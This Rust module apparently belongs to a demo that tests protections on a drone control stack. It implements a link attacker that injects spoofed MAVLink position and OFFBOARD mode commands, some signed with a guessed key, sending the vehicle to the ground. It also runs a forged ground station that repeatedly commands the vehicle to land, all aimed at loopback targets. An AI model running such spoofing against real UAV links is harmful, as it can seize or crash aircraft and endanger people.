//! Somebody on the link: position commands to the vehicle in the VSM's name, mode commands to the VSM in the CUCS's.
//!
//! It knows all that goes over the wire, and no key. Its targets are handed in by the demo, which are its own, on
//! loopback.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Context as _;
use cucs::Station;
use mavlink_link::dialect::{
    COMMAND_LONG_DATA, MavCmd, MavFrame, MavMessage, PositionTargetTypemask,
    SET_POSITION_TARGET_LOCAL_NED_DATA,
};
use mavlink_link::frame::{Header, INCOMPAT_SIGNED, MAX_FRAME, encode};
use mavlink_link::signing::{SigningKey, Stamp, sign};
use stanag_msgs::Id;
use tokio::net::UdpSocket;

/// What one attack has sent.
#[derive(Debug, Clone, Copy, Default)]
pub(super) struct Shots {
    /// MAVLink frames at the vehicle.
    pub(super) frames: u64,
    /// Mode commands (2016) at the VSM, repetitions not counted.
    pub(super) commands: u64,
}

/// The attacker on the vehicle's link.
pub(super) struct LinkAttacker {
    socket: UdpSocket,
    vehicle: SocketAddr,
    guess: SigningKey,
    seq: u8,
    pub(super) frames: u64,
}

impl LinkAttacker {
    pub(super) async fn at(vehicle: SocketAddr) -> anyhow::Result<LinkAttacker> {
        Ok(LinkAttacker {
            socket: UdpSocket::bind("127.0.0.1:0").await?,
            vehicle,
            guess: SigningKey::new([0x5a; 32]).context("a key")?,
            seq: 0,
            frames: 0,
        })
    }

    /// "Go to the ground", and now and then "take commands from outside", once as they are and once signed with a key
    /// that is a guess.
    pub(super) async fn shoot(&mut self, wall: Duration) -> anyhow::Result<()> {
        let mut messages = vec![down()];
        // After a setpoint: in flight PX4 refuses OFFBOARD where none arrives.
        if self.frames.is_multiple_of(40) {
            messages.push(offboard());
        }
        for message in messages {
            for signed in [false, true] {
                let header = Header {
                    seq: self.seq,
                    system_id: 245,
                    component_id: 190,
                    incompat: if signed { INCOMPAT_SIGNED } else { 0 },
                    ..Header::default()
                };
                self.seq = self.seq.wrapping_add(1);
                let mut out = [0; MAX_FRAME];
                let mut len = encode(&message, header, &mut out);
                if signed {
                    len = sign(&self.guess, 0, Stamp::from_unix(wall), &mut out, len)?;
                }
                let bytes = out.get(..len).unwrap_or_default();
                // A full buffer is a lost datagram, as on any link.
                let _ = self.socket.send_to(bytes, self.vehicle).await;
                self.frames += 1;
            }
        }
        Ok(())
    }
}

/// A CUCS that says it is another one, from another computer: mode 19, land.
pub(super) async fn forge(
    vsm: SocketAddr,
    claimed: Id,
    vehicle: Id,
    commands: &mut u64,
) -> anyhow::Result<()> {
    // Not the address of the CUCS, so that `cucs.address` is what stops it under protection.
    let elsewhere = "127.0.0.2:0".parse()?;
    let mut station = Station::bind(claimed, elsewhere, vsm).await?;
    loop {
        *commands += 1;
        // Whether it is answered is not its concern.
        let _ = tokio::time::timeout(FORGE_EVERY, station.land(vehicle)).await;
        tokio::time::sleep(FORGE_EVERY).await;
    }
}

/// The ground right below home.
fn down() -> MavMessage {
    use PositionTargetTypemask as Ignore;
    MavMessage::SET_POSITION_TARGET_LOCAL_NED(SET_POSITION_TARGET_LOCAL_NED_DATA {
        target_system: 1,
        target_component: 1,
        coordinate_frame: MavFrame::MAV_FRAME_LOCAL_NED,
        type_mask: Ignore::POSITION_TARGET_TYPEMASK_VX_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_VY_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_VZ_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_AX_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_AY_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_AZ_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_YAW_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_YAW_RATE_IGNORE,
        // x, y and z stay 0: the vehicle is sent to its origin, on the ground.
        ..SET_POSITION_TARGET_LOCAL_NED_DATA::default()
    })
}

/// DO_SET_MODE, OFFBOARD.
fn offboard() -> MavMessage {
    MavMessage::COMMAND_LONG(COMMAND_LONG_DATA {
        target_system: 1,
        target_component: 1,
        command: MavCmd::MAV_CMD_DO_SET_MODE,
        // PX4's custom modes: param1 1 enables them, main mode 6 is OFFBOARD.
        param1: 1.0,
        param2: 6.0,
        ..COMMAND_LONG_DATA::default()
    })
}

const FORGE_EVERY: Duration = Duration::from_millis(150);
